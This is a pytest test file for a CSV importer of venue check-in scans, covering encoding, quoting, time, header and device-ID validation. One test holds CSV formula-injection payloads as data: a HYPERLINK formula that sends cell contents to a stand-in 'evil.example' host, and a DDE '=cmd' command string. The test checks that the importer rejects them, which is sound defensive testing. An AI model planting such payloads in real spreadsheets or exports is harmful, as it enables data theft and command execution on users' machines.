"""`import_csv`: good rows load once, bad rows are named by line, bad files are refused whole."""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from doorscan.cards import CardSigner
from doorscan.errors import Refusal
from doorscan.synthetic import cccd_text, health_text, make_people
from doorscan.timefmt import to_ms
from doorscan.wire import UnitRecord, VenueRecord
from hub.csv_import import HEADER, HEADER_WITH_DEVICE, import_csv
from hub.store import HubStore
from tests.hubdb import raw_sql
from tests.hubstore import open_store

PEOPLE = make_people(6, seed=21)
NOW = datetime(2022, 3, 15, 12, 0, tzinfo=UTC)
SIGNER = CardSigner.generate()
CARD = SIGNER.issue("Rơ Châm H'Hen", date(2021, 8, 1), card_id="7K3M9P2QXA")


def csv_text(rows: list[list[str]], header: str = HEADER) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return header + "\n" + out.getvalue()


def good_rows() -> list[list[str]]:
    return [
        ["cho-pleiku", "2022-03-01T09:30:00+07:00", cccd_text(PEOPLE[0])],
        ["cho-pleiku", "2022-03-01T02:45:00Z", health_text(PEOPLE[1])],
        ["cho-pleiku", "2022-03-01T10:00:00.250+07:00", CARD],
    ]


def to_cp1258(text: str) -> bytes:
    """cp1258 has ơ, ư, â... but not their toned forms: those take a combining tone mark."""
    out = bytearray()
    for ch in text:
        marks = unicodedata.normalize("NFD", ch)
        for split in range(len(marks), 0, -1):
            try:
                head = unicodedata.normalize("NFC", marks[:split]).encode("cp1258")
                out += head + marks[split:].encode("cp1258")
                break
            except UnicodeEncodeError:
                continue
        else:
            raise AssertionError(f"{ch!r} has no cp1258 form")
    return bytes(out)


@pytest.fixture
def store(hub_db: str) -> Iterator[HubStore]:
    with open_store(hub_db) as opened:
        opened.upsert_venue(VenueRecord(venue_id="cho-pleiku", name="Chợ Pleiku"))
        yield opened


def load(store: HubStore, path: Path, add_venues: bool = False) -> tuple[int, ...]:
    report = import_csv(
        store, path, add_venues=add_venues, card_keys=SIGNER.keyring(), received_at=NOW
    )
    return report.rows, report.loaded, report.duplicates, len(report.errors)


def write(tmp_path: Path, content: str | bytes, name: str = "scans.csv") -> Path:
    path = tmp_path / name
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8", newline="")
    else:
        path.write_bytes(content)
    return path


def test_a_good_file_loads(store: HubStore, tmp_path: Path) -> None:
    path = write(tmp_path, csv_text(good_rows()))
    assert load(store, path) == (3, 3, 0, 0)
    checkins = store.checkins_at("cho-pleiku", 0, to_ms(NOW))
    assert [(c.kind, c.person_key, c.name) for c in checkins] == [
        ("cccd", PEOPLE[0].person_key, PEOPLE[0].name),
        ("health", PEOPLE[1].person_key, health_text(PEOPLE[1]).split("|")[1]),
        ("card", "card:7K3M9P2QXA", "Rơ Châm H'Hen"),
    ]
    assert checkins[0].at_ms == to_ms(datetime(2022, 3, 1, 2, 30, tzinfo=UTC))
    assert checkins[2].at_ms % 1000 == 250
    assert all(c.scan_id.startswith("csv-") and len(c.scan_id) == 36 for c in checkins)


def test_importing_twice_adds_nothing(store: HubStore, tmp_path: Path) -> None:
    path = write(tmp_path, csv_text(good_rows()))
    assert load(store, path) == (3, 3, 0, 0)
    assert load(store, path) == (3, 0, 3, 0)
    assert store.counts()["scans"] == 3
    # The same rows in another file, another order, are the same scans.
    again = write(tmp_path, csv_text(good_rows()[::-1]), "again.csv")
    assert load(store, again) == (3, 0, 3, 0)


def test_bom_and_crlf_are_fine(store: HubStore, tmp_path: Path) -> None:
    text = csv_text(good_rows()).replace("\n", "\r\n")
    path = write(tmp_path, b"\xef\xbb\xbf" + text.encode("utf-8"))
    assert load(store, path) == (3, 3, 0, 0)


def test_a_file_that_is_not_utf8_is_refused_whole(store: HubStore, tmp_path: Path) -> None:
    # What Excel on a Vietnamese Windows writes: cp1258, tones as combining marks.
    path = write(tmp_path, to_cp1258(csv_text(good_rows())))
    with pytest.raises(Refusal) as refused:
        load(store, path)
    assert refused.value.code == "csv_encoding" and "byte offset" in refused.value.reason
    assert store.counts()["scans"] == 0

    good = csv_text(good_rows()[:1]).encode("utf-8")
    path = write(tmp_path, good + b"cho-pleiku,2022-03-01T09:30:00+07:00,Nguy\xe1n\n")
    with pytest.raises(Refusal, match=rf"byte 0xe1 at byte offset {len(good) + 41} \(line 3\)"):
        load(store, path)
    assert store.counts()["scans"] == 0  # the good first row is not loaded either


def test_broken_quoting_costs_one_row_named_by_line(store: HubStore, tmp_path: Path) -> None:
    rows = good_rows()
    text = (
        f"{HEADER}\n"
        + csv_text(rows[:1]).split("\n", 1)[1]  # line 2: good
        + 'cho-pleiku,2022-03-01T09:31:00+07:00,"064090123456||An\n'  # line 3: never closed
        + csv_text(rows[1:2]).split("\n", 1)[1]  # line 4: good, not swallowed by line 3
        + 'cho-pleiku,"2022-03-01T09:32:00+07:00"x,abc\n'  # line 5: text after a quote
        + "\n"  # line 6: blank, skipped
        + csv_text(rows[2:]).split("\n", 1)[1]  # line 7: good
    )
    report = import_csv(
        store, write(tmp_path, text), add_venues=False, card_keys=SIGNER.keyring(), received_at=NOW
    )
    assert (report.rows, report.loaded) == (5, 3)
    assert [line for line, _ in report.errors] == [3, 5]
    assert all("broken quoting" in message for _, message in report.errors)


def test_unknown_venue_is_refused_unless_add_venues(store: HubStore, tmp_path: Path) -> None:
    rows = [["ben-xe-duc-long", "2022-03-01T09:30:00+07:00", cccd_text(PEOPLE[2])]]
    path = write(tmp_path, csv_text(rows + good_rows()[:1]))
    report = import_csv(store, path, add_venues=False, card_keys=None, received_at=NOW)
    assert (report.loaded, report.errors) == (
        1,
        [(2, "unknown venue ben-xe-duc-long (use --add-venues)")],
    )
    assert store.venue("ben-xe-duc-long") is None
    assert load(store, path, add_venues=True) == (2, 1, 1, 0)
    venue = store.venue("ben-xe-duc-long")
    assert venue is not None and venue.name == "ben-xe-duc-long"


def test_times_need_an_offset_and_must_be_plausible(store: HubStore, tmp_path: Path) -> None:
    qr = cccd_text(PEOPLE[3])
    rows = [
        ["cho-pleiku", "2022-03-01T09:30:00", qr],
        ["cho-pleiku", "15/08/2021 09:30", qr],
        ["cho-pleiku", "2019-12-31T23:00:00+00:00", qr],
        ["cho-pleiku", "2022-03-16T09:30:00+07:00", qr],  # after the import itself
    ]
    report = import_csv(
        store, write(tmp_path, csv_text(rows)), add_venues=False, card_keys=None, received_at=NOW
    )
    assert report.loaded == 0
    messages = dict(report.errors)
    assert "no UTC offset" in messages[2]
    assert "not an ISO 8601 time" in messages[3]
    assert "before 2020" in messages[4]
    assert "in the future" in messages[5]


def test_formula_cells_stay_text_and_are_quoted_safely(store: HubStore, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    rows = [
        ["cho-pleiku", "2022-03-01T09:30:00+07:00", formula],
        ["cho-pleiku", "2022-03-01T09:30:00+07:00", cccd_text(PEOPLE[4]).replace(
            PEOPLE[4].name, formula
        )],
        ["cho-pleiku", "2022-03-01T09:30:00+07:00", health_text(PEOPLE[5]).replace(
            health_text(PEOPLE[5]).split("|")[1], "@SUM(1+1)"
        )],
        ["=cmd|' /C calc'!A0", "2022-03-01T09:30:00+07:00", cccd_text(PEOPLE[4])],
        ["cho-pleiku", "2022-03-01T09:30:00+07:00", "+\x1b[2J" + formula],
    ]  # fmt: skip
    report = import_csv(
        store, write(tmp_path, csv_text(rows)), add_venues=True, card_keys=None, received_at=NOW
    )
    assert report.loaded == 0 and len(report.errors) == 5
    messages = dict(report.errors)
    assert "qr_text '=HYPERLINK(" in messages[2] and "not a CCCD" in messages[2]
    # The reason names the rule, never the visitor's text: '=' is a math symbol, '@' Po.
    assert "the name holds a character of Unicode class Sm" in messages[3]
    assert "the name holds a character of Unicode class Po" in messages[4]
    assert messages[5] == "venue id \"=cmd|' /C calc'!A0\" is not a valid id"
    assert "\\x1b" in messages[6]
    for message in messages.values():
        assert message[0] not in "=+-@" and message.isprintable()


def test_header_must_be_exact(store: HubStore, tmp_path: Path) -> None:
    for header in ("venue,time,qr", "Venue_ID,scanned_at,qr_text", HEADER + ",extra", ""):
        path = write(tmp_path, csv_text(good_rows(), header=header))
        with pytest.raises(Refusal) as refused:
            load(store, path)
        assert refused.value.code == "csv_header"
    assert store.counts()["scans"] == 0
    with pytest.raises(Refusal, match="csv_header"):
        load(store, write(tmp_path, b""))


def test_device_id_links_a_registered_unit(store: HubStore, hub_db: str, tmp_path: Path) -> None:
    store.upsert_venue(VenueRecord(venue_id="benh-vien", name="Bệnh viện"))
    store.upsert_unit(UnitRecord(unit_id="u-cho-1", venue_id="cho-pleiku"))
    store.upsert_unit(UnitRecord(unit_id="u-bv-1", venue_id="benh-vien"))
    base = good_rows()
    rows = [
        [*base[0], "u-cho-1"],
        [*base[1], "phone of the guard"],  # a device the hub does not know
        [*base[2], "u-bv-1"],  # a unit of another venue
        base[0][:3],  # the header has four fields
    ]
    report = import_csv(
        store,
        write(tmp_path, csv_text(rows, header=HEADER_WITH_DEVICE)),
        add_venues=False,
        card_keys=SIGNER.keyring(),
        received_at=NOW,
    )
    assert report.loaded == 2
    assert report.errors == [
        (4, "device u-bv-1 is a unit of benh-vien, not cho-pleiku"),
        (5, "3 fields where the header has 4"),
    ]
    units = raw_sql(hub_db, "SELECT unit_id, source FROM scans ORDER BY scanned_at_ms")
    assert units == [("u-cho-1", "csv"), (None, "csv")]


def test_cards_need_a_key(store: HubStore, tmp_path: Path) -> None:
    path = write(tmp_path, csv_text(good_rows()[2:]))
    report = import_csv(store, path, add_venues=False, card_keys=None, received_at=NOW)
    assert report.loaded == 0 and "not accepted here" in report.errors[0][1]


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    body=st.one_of(
        st.binary(max_size=300),
        st.lists(
            st.lists(
                st.text(max_size=30) | st.sampled_from(["cho-ia-kha", "2022-01-10T08:00+07:00"]),
                max_size=5,
            ),
            max_size=6,
        ).map(lambda rows: csv_text([[*row] for row in rows])),
    )
)
def test_fuzz_any_file_is_refused_whole_or_row_by_row(
    store: HubStore, tmp_path: Path, body: str | bytes
) -> None:
    path = write(tmp_path, body)
    try:
        report = import_csv(store, path, add_venues=False, card_keys=None, received_at=NOW)
    except Refusal:
        return  # the file as a whole is refused, with its reason
    assert report.loaded + report.duplicates + len(report.errors) == report.rows
    assert all(line >= 2 and reason for line, reason in report.errors)
